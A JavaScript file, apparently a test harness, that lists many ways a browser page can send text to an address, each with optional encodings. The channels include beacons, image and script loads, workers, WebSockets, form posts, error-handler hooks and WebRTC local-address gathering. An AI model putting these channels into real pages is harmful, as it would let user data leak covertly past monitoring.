// Every way out of a page that we know, each with any text; and every listed wrapping of a text.
'use strict';

const bytesOf = (text) => new TextEncoder().encode(text);
const hexOf = (bytes) => [...bytes].map((b) => b.toString(16).padStart(2, '0')).join('');
const base64Of = (bytes) => btoa(String.fromCharCode(...bytes));
const sha256Of = async (text) => new Uint8Array(await crypto.subtle.digest('SHA-256', bytesOf(text)));
const packed = async (text, format) => {
  const stream = new Blob([text]).stream().pipeThrough(new CompressionStream(format));
  return new Uint8Array(await new Response(stream).arrayBuffer());
};
const utf16Of = (text) => Uint8Array.from([...text].flatMap((c) => [c.charCodeAt(0) & 255, c.charCodeAt(0) >> 8]));

/** name → async (text) → what is sent: a string or bytes. */
window.wrappings = {
  plain: async (text) => text,
  percent: async (text) => [...bytesOf(text)].map((b) => '%' + b.toString(16).padStart(2, '0')).join(''),
  base64: async (text) => base64Of(bytesOf(text)),
  'base64, one byte on': async (text) => base64Of(bytesOf('x' + text)),
  'base64, two bytes on': async (text) => base64Of(bytesOf('xy' + text)),
  base64url: async (text) => base64Of(bytesOf(text)).replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', ''),
  hex: async (text) => hexOf(bytesOf(text)),
  HEX: async (text) => hexOf(bytesOf(text)).toUpperCase(),
  'UTF-16': async (text) => utf16Of(text),
  'UTF-16 in base64': async (text) => base64Of(utf16Of(text)),
  gzip: async (text) => packed(text, 'gzip'),
  deflate: async (text) => packed(text, 'deflate'),
  'raw deflate': async (text) => packed(text, 'deflate-raw'),
  'gzip in base64': async (text) => base64Of(await packed(text, 'gzip')),
  'SHA-256': async (text) => sha256Of(text),
  'SHA-256 in hex': async (text) => hexOf(await sha256Of(text)),
  'SHA-256 in base64': async (text) => base64Of(await sha256Of(text)),
};

const worker = (kind, url, text) => {
  const code = `fetch(${JSON.stringify(url)}, { method: 'POST', mode: 'no-cors', body: ${JSON.stringify(text)} })`;
  const file = URL.createObjectURL(new Blob([code], { type: 'text/javascript' }));
  return new kind(file);
};
const add = (name, properties) => document.body.append(Object.assign(document.createElement(name), properties));

const send = (to, text) => fetch(to, { method: 'POST', mode: 'no-cors', body: text }).catch(() => {});

/** name → (address, text) → nothing. */
window.ways = {
  fetch: send,
  'fetch in the address': (to, text) => fetch(to + '?' + encodeURIComponent(text), { mode: 'no-cors' }).catch(() => {}),
  'fetch in a header': (to, text) => fetch(to, { mode: 'no-cors', headers: { 'accept-language': hexOf(bytesOf(text)) } }).catch(() => {}),
  XMLHttpRequest: (to, text) => { const x = new XMLHttpRequest(); x.open('POST', to); x.send(text); },
  beacon: (to, text) => navigator.sendBeacon(to, new Blob([text])),
  image: (to, text) => { new Image().src = to + '?' + encodeURIComponent(text); },
  style: (to, text) => add('link', { rel: 'stylesheet', href: to + '?' + encodeURIComponent(text) }),
  script: (to, text) => add('script', { src: to + '?' + encodeURIComponent(text) }),
  frame: (to, text) => add('iframe', { src: to + '?' + encodeURIComponent(text) }),
  prefetch: (to, text) => add('link', { rel: 'prefetch', href: to + '?' + encodeURIComponent(text) }),
  EventSource: (to, text) => { new EventSource(to + '?' + encodeURIComponent(text)); },
  worker: (to, text) => worker(Worker, to, text),
  'shared worker': (to, text) => worker(SharedWorker, to, text),
  'service worker': async (to, text) => {
    await navigator.serviceWorker.register('worker.js');
    (await navigator.serviceWorker.ready).active.postMessage([to, text]);
  },
  /* Tools that collect a page's errors, and what is printed, send on what they hear. */
  'error, heard by a tool': (to, text) => {
    addEventListener('error', ({ message }) => send(to, message), { once: true });
    setTimeout(() => { throw new Error(text); });
  },
  'rejection, heard by a tool': (to, text) => {
    addEventListener('unhandledrejection', ({ reason }) => send(to, String(reason)), { once: true });
    Promise.reject(new Error(text));
  },
  'console, heard by a tool': (to, text) => {
    const { warn } = console;
    console.warn = (...said) => { send(to, said.join(' ')); console.warn = warn; };
    console.warn(text);
  },
  /* The browser's own report, to where the page's policy says. */
  'policy report': (to, text) => add('iframe', { src: 'reported.html?to=' + encodeURIComponent(to) + '#' + encodeURIComponent(text) }),
  'form in a frame': (to, text) => {
    add('iframe', { name: 'away' });
    const form = Object.assign(document.createElement('form'), { method: 'post', action: to, target: 'away' });
    form.append(Object.assign(document.createElement('input'), { name: 'q', value: text }));
    document.body.append(form);
    form.submit();
  },
  WebSocket: (to, text) => { new WebSocket(to.replace(/^http/, 'ws') + '?' + encodeURIComponent(text)); },
};

/** What a page can find of its own addresses, and whether any packet of it can go out. */
window.candidates = () => new Promise((done) => {
  const found = [];
  const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:192.0.2.1:3478' }, { urls: 'stun:stun.example.org:3478' }] });
  peer.createDataChannel('x');
  peer.onicecandidate = ({ candidate }) => { if (candidate && candidate.candidate) found.push(candidate.candidate); };
  peer.onicegatheringstatechange = () => { if (peer.iceGatheringState === 'complete') done(found); };
  peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  setTimeout(() => done(found), 15000);
});
